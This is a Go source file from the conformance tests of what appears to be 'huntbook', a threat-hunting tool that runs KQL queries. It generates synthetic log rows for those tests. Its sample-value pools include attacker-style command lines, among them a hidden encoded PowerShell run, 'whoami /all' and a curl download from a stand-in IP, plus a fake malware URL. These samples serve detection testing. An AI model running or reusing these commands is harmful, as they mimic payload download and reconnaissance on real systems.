package conformance

import (
	"fmt"
	"hash/fnv"
	"strconv"
	"strings"

	"github.com/huntbook/huntbook/algo/json"
	"github.com/huntbook/huntbook/algo/ticks"
	"github.com/huntbook/huntbook/kql/types"
	"github.com/huntbook/huntbook/store/catalog"
)

// rowsOf is how many rows each query adds to each of its tables.
const rowsOf = 4

// The pools of general values are small, so that joins find partners.
var pools = []struct {
	in     []string // of a column's name, in lower case
	values []string
}{
	{[]string{"url", "uri"}, []string{"https://login.example.com/common/oauth2?x=1", "http://198.51.100.7:8080/a.exe", "https://contoso.sharepoint.com/sites/x"}},
	{[]string{"ipaddress", "remoteip", "localip", "sourceip", "clientip", "srcip", "dstip", "ip_s", "callerip", "senderip"}, []string{"10.0.0.5", "198.51.100.7", "203.0.113.9", "2001:db8::1", "192.168.1.20"}},
	{[]string{"upn", "principalname", "email", "mailbox", "recipient", "sender"}, []string{"alice@contoso.com", "bob@contoso.com", "admin@fabrikam.org"}},
	{[]string{"account", "user", "identity", "caller"}, []string{`CONTOSO\alice`, "bob", "NT AUTHORITY\\SYSTEM", "admin"}},
	{[]string{"computer", "device", "host", "machine"}, []string{"ws-01.contoso.com", "DC01", "srv-web-2"}},
	{[]string{"commandline"}, []string{`powershell.exe -nop -w hidden -enc SQBFAFgA`, `cmd.exe /c whoami /all`, `"C:\Windows\System32\rundll32.exe" shell32.dll,Control_RunDLL`, `curl -o /tmp/x http://198.51.100.7/x`}},
	{[]string{"filename", "process", "image"}, []string{"powershell.exe", "cmd.exe", "rundll32.exe", "bash"}},
	{[]string{"path", "folder", "directory"}, []string{`C:\Windows\System32\cmd.exe`, `C:\Users\alice\AppData\Local\Temp\a.exe`, "/usr/bin/curl"}},
	{[]string{"sha256"}, []string{strings.Repeat("ab", 32), strings.Repeat("0f", 32)}},
	{[]string{"sha1"}, []string{strings.Repeat("cd", 20)}},
	{[]string{"md5", "hash"}, []string{strings.Repeat("ef", 16)}},
	{[]string{"guid", "correlation", "objectid", "tenantid", "_id", "id"}, []string{"6f9619ff-8b86-d011-b42d-00c04fc964ff", "00000000-0000-0000-0000-000000000001", "a3f1c2d4-1111-4222-8333-0123456789ab"}},
	{[]string{"country", "location"}, []string{"DE", "US", "CH"}},
	{[]string{"result", "status"}, []string{"Success", "Failure", "0", "50126"}},
	{[]string{"useragent"}, []string{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/124.0 Safari/537.36", "python-requests/2.31"}},
	{[]string{"domain"}, []string{"contoso.com", "login.example.com", "evil.example"}},
	{[]string{""}, []string{"Success", "alpha", "", "Ünïcode x", "1"}},
}

// pick gives one number for a row and a place, the same in every run.
func pick(parts ...any) int {
	h := fnv.New32a()
	fmt.Fprint(h, parts...)
	return int(h.Sum32() >> 1)
}

// jsonNode is a dynamic value in the making: what its paths say is inside.
type jsonNode struct {
	wants []constant
	keys  []string
	kids  map[string]*jsonNode
}

func (n *jsonNode) at(path string, l []constant) {
	for s := range strings.SplitSeq(strings.Trim(path, "/"), "/") {
		if s == "" {
			break
		}
		if n.kids == nil {
			n.kids = map[string]*jsonNode{}
		}
		if n.kids[s] == nil {
			n.kids[s] = &jsonNode{}
			n.keys = append(n.keys, s)
		}
		n = n.kids[s]
	}
	n.wants = append(n.wants, l...)
}

// generator makes rows for queries.
type generator struct{ now int64 }

// rows gives the rows that one query adds to one of its tables, as lines of JSON.
func (g generator) rows(dst []byte, query int, w *wanted, t catalog.Table) []byte {
	columns := map[string]*jsonNode{}
	for _, p := range w.sorted() {
		if p.table == t.Name {
			if columns[p.column] == nil {
				columns[p.column] = &jsonNode{}
			}
			columns[p.column].at(p.path, w.places[p])
			if p.path == "/" && columns[p.column].kids == nil {
				columns[p.column].at("/name", nil)
			}
		}
	}
	for k := range rowsOf {
		dst = append(dst, '{')
		first := true
		for _, c := range t.Columns {
			v := g.cell(query, k, c, columns[c.Name])
			if v == "" {
				continue
			}
			if !first {
				dst = append(dst, ',')
			}
			first = false
			dst = append(append(json.AppendQuote(dst, c.Name), ':'), v...)
		}
		dst = append(dst, "}\n"...)
	}
	return dst
}

// cell gives a column's value as JSON, "" for none.
func (g generator) cell(query, k int, c catalog.Column, n *jsonNode) string {
	typ, _ := types.ByName(c.Type)
	seed := pick(query/3, k, c.Name)
	if n == nil {
		n = &jsonNode{}
		if k == rowsOf-1 && seed%3 == 0 && typ != types.Datetime {
			return "" // some values are missing
		}
	}
	if n.kids != nil && (typ == types.Dynamic || typ == types.String) {
		text := g.dynamic(n, query, k, c.Name)
		if typ == types.Dynamic {
			return text
		}
		return json.Quote(text)
	}
	if typ == types.Dynamic {
		if len(n.wants) > 0 {
			return json.Array([]string{json.Quote(g.texts(n.wants, k)), json.Quote("other")})
		}
		return []string{`{"id":"6f9619ff-8b86-d011-b42d-00c04fc964ff","displayName":"alice","list":["a","b"]}`, `["alpha",2]`, `"text"`, `[{"name":"a","value":1}]`}[seed%4]
	}
	if v, ok := g.literal(typ, n.wants, k); ok {
		return v
	}
	return g.general(typ, c.Name, seed)
}

// dynamic writes a bag or an array. Keys and places under one node cannot both be: keys win, but where the query expands.
func (g generator) dynamic(n *jsonNode, query, k int, name string) string {
	if n.kids == nil {
		if len(n.wants) == 0 {
			return g.general(types.String, name, pick(query, k, name))
		}
		if l := n.wants[k%len(n.wants)]; l.typ != types.String {
			if v, ok := g.literal(l.typ, n.wants, k); ok {
				return v
			}
		}
		return json.Quote(g.texts(n.wants, k))
	}
	if el := n.kids["*"]; el != nil {
		return json.Array([]string{g.dynamic(el, query, k, name), g.dynamic(el, query, k+1, name)})
	}
	members := make([]json.Member, 0, len(n.keys))
	for _, key := range n.keys {
		members = append(members, json.Member{Key: key, Value: g.dynamic(n.kids[key], query, k, key)})
	}
	return json.Object(members)
}

// texts chooses a text of those wanted: the first row holds all that may stand beside others.
func (g generator) texts(wants []constant, k int) string {
	var parts []string
	for i, l := range wants {
		if (k == 0 && l.part || i == k%len(wants)) && len(parts) < 12 {
			parts = append(parts, text(l))
		}
	}
	return strings.Join(parts, " ")
}

func text(l constant) string {
	switch l.typ {
	case types.Datetime:
		return ticks.FormatDatetime(l.val.I)
	case types.Timespan:
		return ticks.FormatTimespan(l.val.I)
	case types.Bool:
		return strconv.FormatBool(l.val.I != 0)
	case types.Int, types.Long:
		return strconv.FormatInt(l.val.I, 10)
	case types.Real:
		return strconv.FormatFloat(l.val.F, 'g', -1, 64)
	}
	return l.val.S
}

// literal writes a wanted value for a column of a type.
func (g generator) literal(typ types.Type, wants []constant, k int) (string, bool) {
	if len(wants) == 0 {
		return "", false
	}
	if typ == types.String {
		return json.Quote(g.texts(wants, k)), true
	}
	for i := range wants {
		l := wants[(k+i)%len(wants)]
		switch {
		case typ == types.Datetime && l.typ == types.Datetime && ticks.Valid(l.val.I), typ == types.Timespan && l.typ == types.Timespan:
			return json.Quote(text(l)), true
		case typ.IsNumber() && l.typ.IsNumber() && l.typ != types.Decimal:
			if typ == types.Int && (l.val.I != int64(int32(l.val.I)) || l.typ == types.Real) {
				continue
			}
			if typ == types.Long && l.typ == types.Real {
				return strconv.FormatInt(int64(l.val.F), 10), true
			}
			return text(l), true
		case typ == types.Bool && (l.typ == types.Bool || l.typ == types.Long):
			return strconv.FormatBool(l.val.I != 0), true
		case typ == types.Guid && l.typ == types.Guid:
			return json.Quote(l.val.S), true
		}
	}
	return "", false
}

// general writes a value by a column's type and name.
func (g generator) general(typ types.Type, name string, seed int) string {
	switch typ {
	case types.Bool:
		return strconv.FormatBool(seed%2 == 0)
	case types.Int, types.Long:
		return []string{"0", "1", "4688", "443", "50126"}[seed%5]
	case types.Real, types.Decimal:
		return []string{"0.5", "97.25", "-3", "12"}[seed%4]
	case types.Datetime:
		ago := []int64{ticks.Hour / 12, ticks.Hour, 5 * ticks.Hour, ticks.Day, 3 * ticks.Day, 8 * ticks.Day, 20 * ticks.Day}[seed%7]
		return json.Quote(ticks.FormatDatetime(g.now - ago - int64(seed%600)*ticks.Second))
	case types.Timespan:
		return json.Quote(ticks.FormatTimespan(int64(seed%7200) * ticks.Second))
	case types.Guid:
		return `"6f9619ff-8b86-d011-b42d-00c04fc964ff"`
	}
	low := strings.ToLower(name)
	for _, p := range pools {
		for _, in := range p.in {
			if strings.Contains(low, in) {
				return json.Quote(p.values[seed%len(p.values)])
			}
		}
	}
	return `""`
}
